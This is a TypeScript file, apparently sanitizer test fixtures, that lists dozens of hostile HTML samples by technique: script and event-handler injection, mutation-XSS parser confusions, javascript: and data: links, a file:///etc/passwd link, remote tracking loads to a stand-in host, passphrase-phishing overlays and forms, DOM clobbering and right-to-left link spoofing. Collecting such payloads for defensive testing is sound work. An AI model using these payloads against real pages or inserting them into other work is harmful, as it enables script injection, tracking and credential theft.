/** HTML that tries to run, load, follow, submit, overlay or slip through, by what it tries. */
export const hostileHtml: Readonly<Record<string, string>> = {
  script: '<p>a</p><script>top.hacked = 1</script>',
  'script in upper case with a slash': '<SCRIPT/x>top.hacked = 1</SCRIPT >',
  'script in an unclosed tag': '<p>a<script src=https://a.example/x.js',
  'script split by a null': '<scr\u0000ipt>top.hacked = 1</scr\u0000ipt>',
  'event handler': '<img src=x onerror="top.hacked = 1">',
  'event handler after a slash': '<img/src=x/onerror=top.hacked=1>',
  'event handler with a line feed': '<b\nonmouseover\n=\ntop.hacked=1>a</b>',
  'event handler on the body': '<body onload="top.hacked = 1"><p>a</p></body>',
  'toggle handler': '<details open ontoggle="top.hacked = 1"><summary>a</summary></details>',
  'animation handler': '<p style="animation-name:x" onanimationstart="top.hacked = 1">a</p>',
  'svg with a script': '<svg><script>top.hacked = 1</script></svg>',
  'svg with a handler': '<svg onload="top.hacked = 1"><circle r="1"/></svg>',
  'svg use': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  'svg animate of a link': '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>a</text></a></svg>',
  'svg foreign object': '<svg><foreignObject><iframe src="https://a.example/"></iframe></foreignObject></svg>',
  'math link': '<math><mtext xlink:href="javascript:alert(1)" href="https://a.example/">a</mtext></math>',
  'math and style confusion':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'form in math confusion': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'svg and style confusion': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'svg title confusion': '<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></title></svg>',
  'noscript confusion': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'template confusion': '<template><s><template><s><img src=x onerror=alert(1)></s></template></s></template>',
  'nested tables': '<table><td><table><a><table><a><img src=x onerror=alert(1)>',
  'textarea confusion': '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'comment that ends with a bang': '<!-- --!><img src=x onerror=alert(1)> -->',
  'conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  cdata: '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?><p>a</p>',
  'xmp and plaintext':
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><img src=x onerror=alert(1)>',
  'javascript link': '<a href="javascript:alert(1)">a</a>',
  'javascript link in disguise': '<a href="\u0001jAvA\tscr\nipt&colon;alert(1)">a</a>',
  'javascript link with a zero width space': '<a href="java\u200bscript:alert(1)">a</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">a</a>',
  'data link': '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  'file link': '<a href="file:///etc/passwd">a</a>',
  'app link': '<a href="app://posthorn/index.html">a</a>',
  'blob link': '<a href="blob:app://posthorn/1">a</a>',
  'relative link': '<a href="//a.example/x">a</a><a href="/x">b</a><a href="#x">c</a>',
  'link that opens elsewhere': '<a href="https://a.example/" target="_top" ping="https://b.example/" download>a</a>',
  'image map':
    '<img src="cid:known" usemap="#m"><map name="m"><area shape="default" href="https://a.example/" onclick="alert(1)"></map>',
  'remote image': '<img src="https://a.example/pixel.gif" width="1" height="1">',
  'remote image by srcset':
    '<img srcset="https://a.example/1.png 1x" src="cid:known"><picture><source srcset="https://a.example/2.png"><img></picture>',
  'data image with svg': "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
  'lazy image': '<img data-src="https://a.example/1.png" loading="lazy" lowsrc="https://a.example/2.png" dynsrc="x">',
  'background attribute':
    '<table background="https://a.example/1.png"><td background="https://a.example/2.png">a</td></table>',
  'media and poster':
    '<video poster="https://a.example/1.png" src="https://a.example/1.mp4" autoplay></video><audio src="https://a.example/1.mp3" autoplay></audio>',
  'style url': '<p style="background: url(https://a.example/1.png)">a</p>',
  'style url in disguise':
    '<p style="background: u\\72l(https://a.example/1.png); list-style: u/**/rl(//a.example)">a</p>',
  'style image set': '<p style="background-image: image-set(\'https://a.example/1.png\' 1x)">a</p>',
  'style variables': '<p style="--x: url(https://a.example); background-color: var(--x)">a</p>',
  'style expression': '<p style="width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x)">a</p>',
  overlay: '<div style="position: fixed; inset: 0; z-index: 99999; background-color: white">Type your passphrase</div>',
  'overlay by negative margins': '<div style="margin-top: -900px; width: 4000px">over the head</div>',
  'style element':
    '<style>@import "https://a.example/x.css"; p { background: url(https://a.example/1.png) }</style><p>a</p>',
  'style link': '<link rel="stylesheet" href="https://a.example/x.css"><link rel="prefetch" href="https://a.example/">',
  'font face':
    '<style>@font-face { font-family: x; src: url(https://a.example/x.woff) }</style><p style="font-family: x">a</p>',
  base: '<base href="https://a.example/"><img src="x.png"><a href="y">a</a>',
  'meta refresh': '<meta http-equiv="refresh" content="0; url=https://a.example/">',
  'meta policy': '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  form: '<form action="https://a.example/"><input name="passphrase" autofocus><button formaction="javascript:alert(1)">Go</button></form>',
  'form that clobbers':
    '<form id="x"><input name="attributes"><input name="removeChild"><input name="nodeName"></form>',
  'names that clobber':
    '<img name="body"><a id="location" name="cookie">a</a><img id="documentElement" name="getElementById">',
  frames:
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe><frameset><frame src="https://a.example/"></frameset>',
  'plug-ins':
    '<object data="https://a.example/x.swf"><param name="x"></object><embed src="https://a.example/x.pdf"><applet code="x"></applet>',
  'custom element': '<x-y onclick="alert(1)" is="z"><p is="x-y" slot="a">a</p></x-y>',
  'shadow root': '<div><template shadowrootmode="open"><script>alert(1)</script><slot></slot></template>a</div>',
  'content that can be edited':
    '<p contenteditable autofocus onfocus="alert(1)" tabindex="1" accesskey="x" draggable="true">a</p>',
  'popover and dialog': '<dialog open>a</dialog><p popover id="p">b</p><button popovertarget="p">c</button>',
  'quoted source': '<blockquote cite="javascript:alert(1)">a</blockquote><q cite="https://a.example/">b</q>',
  'link attribute of our own':
    '<a data-link="javascript:alert(1)">a</a><p data-link="https://a.example/" role="link">b</p>',
  'right to left': '<a href="https://a.example/">\u202egnp.elpmaxe.a\u202c</a>',
};
